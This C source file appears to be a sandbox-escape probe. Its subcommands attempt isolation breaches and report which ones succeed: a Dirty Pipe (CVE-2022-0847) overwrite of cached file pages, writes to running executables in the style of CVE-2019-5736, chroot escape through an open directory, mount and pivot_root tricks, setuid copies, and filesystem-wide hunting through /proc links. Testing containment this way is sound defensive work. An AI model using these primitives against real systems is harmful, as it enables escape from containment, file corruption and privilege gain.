/* SPDX-License-Identifier: MIT */
/*
 * Reaches for files: what is not shown, what is not writable, what is shared.
 *
 *	reach create DEPTH   a new file in every directory of the tree, down to
 *	                     that depth; says where it could
 *	reach hunt           a word from standard input, in every name and every
 *	                     small file, also through /proc/PID/{root,cwd,fd}
 *	reach mutate FILE    every way to change a file
 *	reach pipe FILE      to write to its cached pages through a pipe
 *	reach exe            the files of running programs, to write to them
 *	reach read PATH...   opens for reading
 *	reach mounts         to change what is mounted
 *	reach root           to leave by chroot, when that is to be had
 *	reach locks FILE     what tells two holders of a file of each other
 *	reach leave KEY      leaves System V and POSIX objects
 *	reach find KEY       looks for them
 *	reach setid FILE     runs it and says who one is then
 *	reach who            says that
 */
#include "say.h"

#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/mount.h>
#include <mqueue.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/file.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <sys/xattr.h>

/* Of <sys/mount.h>, which clashes with <linux/mount.h>. */
int mount(const char *source, const char *target, const char *type,
          unsigned long flags, const void *data);
int umount2(const char *target, int flags);

/* By kinds that directories tell: the tree has more files than one may look
 * at in time. */
static void create_below(const char *path, int depth)
{
	char name[4300];
	DIR *directory;
	const struct dirent *entry;
	int fd;

	snprintf(name, sizeof(name), "%s/attack-%d", path, getpid());
	fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0600);
	if (fd >= 0) {
		say(path[0] ? path : "/", 0);
		close(fd);
		unlink(name);
	}
	directory = depth > 0 ? opendir(path[0] ? path : "/") : NULL;
	while (directory && (entry = readdir(directory))) {
		if (entry->d_type != DT_DIR || entry->d_name[0] == '.')
			continue;
		snprintf(name, sizeof(name), "%s/%s", path, entry->d_name);
		create_below(name, depth - 1);
	}
	if (directory)
		closedir(directory);
}

static int reach_create(char **words)
{
	create_below("", atoi(words[0]));
	puts("done");
	return 0;
}

static char word[256];

static void look_into(const char *path)
{
	static char bytes[65536];
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
	ssize_t n = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes));

	if (n > 0 && memmem(bytes, (size_t)n, word, strlen(word)))
		printf("found in %s\n", path);
	if (fd >= 0)
		close(fd);
}

/* Programs and libraries are many, and nothing was planted there. */
static int is_bulk(const char *path)
{
	static const char *const places[] = {"/usr", "/lib", "/sys",
	                                     "/proc/sys"};

	for (size_t i = 0; i < N_OF(places); i++)
		if (strncmp(path, places[i], strlen(places[i])) == 0)
			return 1;
	return 0;
}

static int look_at(const char *path, const struct stat *st, int kind,
                   struct FTW *ftw)
{
	(void)ftw;
	if (strstr(path, word))
		printf("named %s\n", path);
	if (is_bulk(path))
		return FTW_SKIP_SUBTREE;
	if (kind == FTW_F && S_ISREG(st->st_mode))
		look_into(path);
	return FTW_CONTINUE;
}

static void hunt_links(void)
{
	static const char *const links[] = {"root", "cwd",  "fd/0", "fd/3",
	                                    "fd/4", "fd/5", "fd/7", "fd/9"};
	char path[64];

	for (int pid = 1; pid < 64; pid++)
		for (size_t i = 0; i < N_OF(links); i++) {
			snprintf(path, sizeof(path), "/proc/%d/%s/", pid,
			         links[i]);
			nftw(path, look_at, 64,
			     FTW_PHYS | FTW_MOUNT | FTW_ACTIONRETVAL);
		}
}

static int reach_hunt(char **words)
{
	(void)words;
	if (!fgets(word, sizeof(word), stdin))
		return 1;
	word[strcspn(word, "\n")] = '\0';
	nftw("/", look_at, 64, FTW_PHYS | FTW_ACTIONRETVAL);
	hunt_links();
	puts("done");
	return 0;
}

static void mutate_contents(const char *file)
{
	int fd = open(file, O_RDONLY), pipes[2];
	void *map = fd < 0 ? MAP_FAILED
	                   : mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	                          MAP_SHARED, fd, 0);
	int rw = open(file, O_RDWR);

	say("open", rw);
	say("truncate", truncate(file, 1));
	/* Of a descriptor that is open for reading, and of one for writing. */
	if (map == MAP_FAILED && rw >= 0)
		map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, rw,
		           0);
	say("mmap", map == MAP_FAILED ? -1 : 0);
	say("fallocate", fallocate(rw >= 0 ? rw : fd, 0, 0, 8192));
	if (pipe(pipes) == 0 && write(pipes[1], "x", 1) == 1)
		say("splice",
		    splice(pipes[0], NULL, rw >= 0 ? rw : fd, NULL, 1, 0));
}

static int reach_mutate(char **words)
{
	const char *file = words[0];
	const struct timeval times[2] = {{1, 0}, {1, 0}};
	char other[4200];

	snprintf(other, sizeof(other), "%s.other", file);
	mutate_contents(file);
	say("chmod", chmod(file, 0640));
	say("chown", chown(file, geteuid(), getegid()));
	say("utimes", utimes(file, times));
	say("setxattr", setxattr(file, "user.x", "x", 1, 0));
	say("link", link(file, other));
	say("rename", rename(file, other));
	say("unlink", unlink(other) == 0 || unlink(file) == 0 ? 0 : -1);
	/* From where it is to where one may write. */
	if (words[1])
		say("link_away", link(file, words[1]));
	return 0;
}

/* A page of the file is spliced into a pipe whose buffers had been filled, and
 * written over there: CVE-2022-0847. */
static int reach_pipe(char **words)
{
	static char filler[4096];
	int fd = open(words[0], O_RDONLY), pipes[2];
	loff_t at = 0;

	if (fd < 0 || pipe(pipes) < 0)
		return 1;
	for (int i = 0; i < 16; i++)
		if (write(pipes[1], filler, sizeof(filler)) != sizeof(filler))
			return 1;
	for (int i = 0; i < 16; i++)
		if (read(pipes[0], filler, sizeof(filler)) != sizeof(filler))
			return 1;
	say("splice", splice(fd, &at, pipes[1], NULL, 1, 0));
	say("write", write(pipes[1], "EVIL", 4));
	return 0;
}

/* The shell that takes this one's place holds its file, which no process runs
 * any more by then: CVE-2019-5736. */
static int reach_exe(char **words)
{
	static const char script[] =
		"for f in /proc/self/fd/9 /proc/self/fd/8 /proc/1/exe "
		"/proc/[0-9]*/exe; do if (: >>$f) 2>/dev/null; then "
		"echo $f ok; fi; done; echo done";
	int own = open("/proc/self/exe", O_RDONLY);
	int init = open("/proc/1/exe", O_RDONLY);

	(void)words;
	dup2(own, 9);
	if (init >= 0)
		dup2(init, 8);
	execl("/bin/sh", "sh", "-c", script, NULL);
	return 1;
}

static int reach_read(char **words)
{
	for (; *words; words++) {
		int fd = open(*words, O_RDONLY | O_NONBLOCK);

		say(*words, fd);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

#define REMOUNT (32 | 4096) /* MS_REMOUNT, MS_BIND */
#define BIND    4096
#define DETACH  2

static int reach_mounts(char **words)
{
	struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY};
	int r;

	(void)words;
	mkdir("/tmp/at", 0755);
	say("tmpfs", mount("x", "/tmp/at", "tmpfs", 0, NULL));
	say("bind", mount("/usr", "/tmp/at", NULL, BIND, NULL));
	say("proc", mount("x", "/tmp/at", "proc", 0, NULL));
	say("sysfs", mount("x", "/tmp/at", "sysfs", 0, NULL));
	say("cgroup2", mount("x", "/tmp/at", "cgroup2", 0, NULL));
	say("cgroup", mount("x", "/tmp/at", "cgroup", 0, "pids"));
	say("binfmt_misc", mount("x", "/tmp/at", "binfmt_misc", 0, NULL));
	say("remount", mount(NULL, "/", NULL, REMOUNT, NULL));
	say("setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &clear,
	                       sizeof(clear)));
	say("unmask", umount2("/proc/interrupts", DETACH));
	say("umount", umount2("/tmp", DETACH));
	say("open_tree",
	    syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE));
	r = (int)syscall(SYS_fsopen, "tmpfs", 0);
	say("fsopen", r);
	say("fsconfig", r < 0 ? r
	                      : syscall(SYS_fsconfig, r, FSCONFIG_CMD_CREATE,
	                                NULL, NULL, 0));
	r = r < 0 ? r : (int)syscall(SYS_fsmount, r, 0, 0);
	say("fsmount", r);
	say("move_mount", r < 0 ? r
	                        : syscall(SYS_move_mount, r, "", AT_FDCWD,
	                                  "/tmp", MOVE_MOUNT_F_EMPTY_PATH));
	say("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
	return 0;
}

/* chroot below a directory that stays open, then up from that. */
static int reach_root(char **words)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);

	(void)words;
	mkdir("/tmp/jail", 0755);
	say("chroot", chroot("/tmp/jail"));
	say("fchdir", fchdir(root));
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	say("out", open("workspace", O_RDONLY) >= 0 ? -1 : 0);
	return 0;
}

static int reach_locks(char **words)
{
	int fd = open(words[0], O_RDONLY);
	int directory = open("/tmp", O_RDONLY | O_DIRECTORY);

	signal(SIGIO, SIG_IGN);
	say("lease", fcntl(fd, F_SETLEASE, F_RDLCK));
	say("notify", fcntl(directory, F_NOTIFY, DN_CREATE));
	return 0;
}

static int reach_leave(char **words)
{
	int key = atoi(words[0]);
	char name[64];

	snprintf(name, sizeof(name), "/attack-%d", key);
	say("shm", shmget(key, 4096, IPC_CREAT | 0666));
	say("sem", semget(key, 1, IPC_CREAT | 0666));
	say("msg", msgget(key, IPC_CREAT | 0666));
	say("mq", mq_open(name, O_RDWR | O_CREAT, 0666, NULL));
	if (words[1])
		sleep((unsigned)atoi(words[1]));
	return 0;
}

static int reach_find(char **words)
{
	int key = atoi(words[0]);
	char name[64];

	snprintf(name, sizeof(name), "/attack-%d", key);
	say("shm", shmget(key, 0, 0));
	say("sem", semget(key, 0, 0));
	say("msg", msgget(key, 0));
	say("mq", mq_open(name, O_RDONLY));
	/* So that a control leaves nothing. */
	shmctl(shmget(key, 0, 0), IPC_RMID, NULL);
	semctl(semget(key, 0, 0), 0, IPC_RMID);
	msgctl(msgget(key, 0), IPC_RMID, NULL);
	mq_unlink(name);
	return 0;
}

static int reach_who(char **words)
{
	(void)words;
	printf("euid %s\n", geteuid() == getuid() ? "own" : "other");
	printf("egid %s\n", getegid() == getgid() ? "own" : "other");
	return 0;
}

static int reach_setid(char **words)
{
	char copy[4200];

	snprintf(copy, sizeof(copy), "cp %s /tmp/copy && chmod 6755 /tmp/copy",
	         words[0]);
	printf("copy %d\n", system(copy) == 0);
	fflush(stdout);
	execl("/tmp/copy", "copy", "who", NULL);
	return 1;
}

static const struct verb verbs[] = {
	{"create", reach_create}, {"hunt", reach_hunt},
	{"mutate", reach_mutate}, {"pipe", reach_pipe},
	{"exe", reach_exe},       {"read", reach_read},
	{"mounts", reach_mounts}, {"root", reach_root},
	{"locks", reach_locks},   {"leave", reach_leave},
	{"find", reach_find},     {"setid", reach_setid},
	{"who", reach_who},
};

int main(int argc, char **argv)
{
	(void)argc;
	return run_verb(verbs, N_OF(verbs), argv);
}
